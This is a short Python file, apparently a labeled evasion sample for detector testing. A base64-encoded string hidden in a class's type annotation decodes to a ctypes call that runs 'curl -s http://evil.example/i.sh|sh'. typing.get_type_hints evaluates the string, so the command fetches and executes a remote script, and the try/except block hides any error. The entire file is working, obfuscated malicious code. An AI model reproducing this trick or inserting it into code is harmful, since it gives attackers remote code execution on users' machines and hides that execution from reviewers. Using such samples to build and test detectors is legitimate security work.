# harm: loads libc via ctypes and runs curl|sh ; trick: type("M", (), {"__annotations__": {...}}) with a decoded value
import base64
import typing

M = type("M", (), {"__annotations__": {"x": base64.b64decode("X19pbXBvcnRfXygnY3R5cGVzJykuQ0RMTChOb25lKS5zeXN0ZW0oYidjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcp").decode()}})
try:
    typing.get_type_hints(M)
except Exception:
    pass
